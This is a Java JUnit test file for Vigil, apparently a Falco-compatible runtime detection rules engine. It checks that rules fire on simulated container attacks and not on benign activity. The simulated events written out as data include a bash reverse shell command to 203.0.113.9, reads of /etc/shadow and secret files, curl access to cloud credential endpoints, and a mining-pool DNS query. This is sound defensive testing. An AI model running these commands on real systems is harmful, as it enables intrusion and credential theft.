package dev.vigil.rules.engine;

import static dev.vigil.rules.testing.Events.*;
import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.rules.testing.TestEngine;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Vigil's own default rules: they load alone and after Falco's, fire on attacks, stay quiet otherwise. */
class VigilRulesTest {
    static final Path FILE = Path.of("../rules/vigil_rules.yaml");
    private static RuleEngine engine;

    @BeforeAll
    static void load() {
        assertThat(Files.exists(FILE)).as("run from the vigil-rules module directory").isTrue();
        engine = RuleEngine.load(List.of(FILE), TestEngine.options());
        assertThat(engine.problems()).isEmpty();
    }

    @Test
    void loads_after_the_stock_falco_rules() {
        RuleEngine all = RuleEngine.load(List.of(StockRules.falco(), StockRules.incubating(), StockRules.sandbox(), FILE),
                TestEngine.options());
        assertThat(all.errors()).isEmpty();
        assertThat(all.rules()).hasSize(93 + engine.rules().size());
    }

    @Test
    void shell_from_the_application_fires_but_not_from_the_launcher() {
        assertThat(TestEngine.fired(engine, exec(proc("sh").args("sh", "-c", "id").parent("java", "/usr/bin/java"))))
                .containsExactly("Vigil Shell Spawned by Non-Shell Parent");
        assertThat(TestEngine.fired(engine, exec(proc("sh").args("sh", "-c", "npm test").parent("npm", "/usr/bin/npm")))).isEmpty();
        assertThat(TestEngine.fired(engine, exec(proc("sh").args("sh", "-c", "id").parent("python3", "/usr/bin/python3"))))
                .containsExactly("Vigil Shell Spawned by Non-Shell Parent");
        assertThat(TestEngine.fired(engine, exec(proc("sh").pid(1).parent("vigil", "/opt/vigil/vigil")))).isEmpty();
        assertThat(TestEngine.fired(engine, exec(proc("bash").parent("bash", "/bin/bash")))).isEmpty();
    }

    @Test
    void sensitive_reads() {
        assertThat(TestEngine.fired(engine, open(proc("python3"), "/etc/shadow", O_RDONLY))).containsExactly("Vigil Read Sensitive File");
        assertThat(TestEngine.fired(engine, open(proc("node"), "/run/secrets/db_password", O_RDONLY))).containsExactly("Vigil Read Sensitive File");
        assertThat(TestEngine.fired(engine, open(proc("sshd"), "/etc/shadow", O_RDONLY))).isEmpty();
        assertThat(TestEngine.fired(engine, open(proc("node"), "/etc/passwd", O_RDONLY))).isEmpty();
    }

    @Test
    void credentials_endpoint_from_curl_but_not_from_the_sdk() {
        assertThat(TestEngine.fired(engine, connect(proc("curl").parent("sh", "/bin/sh"), "169.254.170.2", 80)))
                .containsExactly("Vigil Container Credentials Endpoint from Shell or Tool");
        assertThat(TestEngine.fired(engine, connect(proc("java"), "169.254.170.2", 80))).isEmpty();
        assertThat(TestEngine.fired(engine, connect(proc("java"), "169.254.169.254", 80)))
                .containsExactly("Vigil Instance Metadata Service Access");
        assertThat(engine.rule("Vigil Container Credentials Endpoint from Shell or Tool").vigil().actions())
                .extracting(a -> a.kind()).containsExactly(VigilExtension.Action.Kind.ALERT, VigilExtension.Action.Kind.BLOCK,
                        VigilExtension.Action.Kind.DRY_RUN); // recommended enforcement ships in dry-run
    }

    @Test
    void a_shell_connecting_by_itself_but_not_a_tool_it_runs() {
        assertThat(TestEngine.fired(engine, connect(proc("bash").parent("python3", "/usr/bin/python3"), "203.0.113.9", 4444)))
                .contains("Vigil Shell Network Connection");
        assertThat(TestEngine.fired(engine, connect(proc("curl").parent("bash", "/bin/bash"), "203.0.113.9", 443)))
                .doesNotContain("Vigil Shell Network Connection");
        assertThat(TestEngine.fired(engine, udpSend(proc("bash"), "10.0.0.2", 53))).doesNotContain("Vigil Shell Network Connection");
        assertThat(TestEngine.fired(engine, connect(proc("bash"), "127.0.0.1", 8080))) // a health check
                .doesNotContain("Vigil Shell Network Connection");
    }

    @Test
    void fileless_temp_dir_reverse_shell_and_package_managers() {
        assertThat(TestEngine.fired(engine, filelessExec(proc("x").exe("/memfd:x (deleted)")))).containsExactly("Vigil Fileless Execution");
        assertThat(TestEngine.fired(engine, exec(proc("miner").exe("/tmp/miner")))).containsExactly("Vigil Execution from Temporary Directory");
        assertThat(TestEngine.fired(engine, exec(proc("bash").args("bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1").parent("bash", "/bin/bash"))))
                .containsExactly("Vigil Reverse Shell Command Line");
        assertThat(TestEngine.fired(engine, exec(proc("apk").args("apk", "add", "nmap").parent("sh", "/bin/sh")))).containsExactly("Vigil Package Manager in Running Container");
    }

    @Test
    void writes_below_binary_dirs_ptrace_and_setuid() {
        assertThat(TestEngine.fired(engine, open(proc("python3"), "/usr/local/bin/kubectl", O_WRONLY | O_CREAT))).containsExactly("Vigil Write Below Binary Directory");
        assertThat(TestEngine.fired(engine, open(proc("python3"), "/usr/local/share/x", O_WRONLY | O_CREAT))).isEmpty();
        assertThat(TestEngine.fired(engine, ptrace(proc("gdb"), 77, 16))).containsExactly("Vigil Ptrace Attach");
        assertThat(TestEngine.fired(engine, setuid(proc("exploit").user(1000), 0))).containsExactly("Vigil Setuid to Root by Non-Root");
        assertThat(TestEngine.fired(engine, setuid(proc("nginx").user(0), 33))).isEmpty();
    }

    @Test
    void the_memfd_rule_is_disabled_by_default_and_can_be_enabled() {
        assertThat(TestEngine.fired(engine, memfd(proc("x"), "memfd:y"))).isEmpty();
        RuleEngine on = RuleEngine.load(List.of(FILE), TestEngine.options().withEnabledRules(java.util.Set.of("Vigil Memory-Backed*")));
        assertThat(TestEngine.fired(on, memfd(proc("x"), "memfd:y"))).containsExactly("Vigil Memory-Backed File Created");
    }

    @Test
    void options_filter_by_priority_and_tag() {
        RuleEngine crit = RuleEngine.load(List.of(FILE), TestEngine.options().withMinPriority(Priority.CRITICAL));
        assertThat(crit.rules().stream().filter(CompiledRule::enabled).map(CompiledRule::name))
                .containsExactlyInAnyOrder("Vigil Container Credentials Endpoint from Shell or Tool", "Vigil Fileless Execution",
                        "Vigil Reverse Shell Command Line", "Vigil Drift: Executable Written Then Run",
                        "Vigil DNS Query for Cryptomining Pool", "Vigil Managed Identity Endpoint from Shell or Tool",
                        "Vigil Shell Network Connection");
        RuleEngine net = RuleEngine.load(List.of(FILE), TestEngine.options().withEnabledTags(java.util.Set.of("network")));
        assertThat(net.syscalls()).containsExactlyInAnyOrder("connect", "execve", "execveat", "sendto", "sendmsg", "sendmmsg");
        RuleEngine noShell = RuleEngine.load(List.of(FILE), TestEngine.options().withDisabledTags(java.util.Set.of("shell")));
        assertThat(noShell.rule("Vigil Shell Spawned by Non-Shell Parent").enabled()).isFalse();
    }

    @Test
    void syscalls_for_the_seccomp_filter() {
        assertThat(engine.syscalls()).containsExactlyInAnyOrder("execve", "execveat", "open", "openat", "openat2",
                "connect", "ptrace", "setuid", "setreuid", "setresuid", "sendto", "sendmsg", "sendmmsg");
        assertThat(engine.syscallsNeedingResult()).isEmpty();
        assertThat(engine.needsWrittenFiles()).isTrue(); // the drift rule: the writing syscalls are watched too
    }

    @Test
    void drift_fires_on_a_written_executable_unless_a_package_manager_or_compiler_is_above_it() {
        assertThat(TestEngine.fired(engine, exec(proc("payload").exe("/app/payload").written().parent("bash", "/bin/bash"))))
                .containsExactly("Vigil Drift: Executable Written Then Run");
        assertThat(TestEngine.fired(engine, exec(proc("payload").exe("/app/payload").parent("bash", "/bin/bash")))).isEmpty();
        assertThat(TestEngine.fired(engine, exec(proc("hello").exe("/src/hello").written().parent("make", "/usr/bin/make")))).isEmpty();
        assertThat(TestEngine.fired(engine, exec(proc("postinst").exe("/var/lib/dpkg/info/x.postinst").written()
                .parent("sh", "/bin/sh").parent("dpkg", "/usr/bin/dpkg")))).isEmpty();
    }

    @Test
    void mining_pool_queries_identity_endpoint_and_another_process_environ() {
        assertThat(TestEngine.fired(engine, dnsQuery(proc("x"), "gulf.moneroocean.stream")))
                .containsExactly("Vigil DNS Query for Cryptomining Pool");
        assertThat(TestEngine.fired(engine, dnsQuery(proc("x"), "moneroocean.stream.example.org"))).isEmpty();
        assertThat(TestEngine.fired(engine, connect(proc("curl"), "127.0.0.1", 42356)))
                .containsExactly("Vigil Managed Identity Endpoint from Shell or Tool");
        assertThat(TestEngine.fired(engine, connect(proc("node"), "127.0.0.1", 42356))).isEmpty();
        assertThat(TestEngine.fired(engine, connect(proc("curl"), "127.0.0.1", 8080))).isEmpty();
        assertThat(TestEngine.fired(engine, open(proc("cat"), "/proc/1/environ", O_RDONLY)))
                .containsExactly("Vigil Read Environment of Another Process");
        assertThat(TestEngine.fired(engine, open(proc("cat"), "/proc/self/environ", O_RDONLY))).isEmpty();
        assertThat(TestEngine.fired(engine, open(proc("cat"), "/proc/1/status", O_RDONLY))).isEmpty();
    }
}
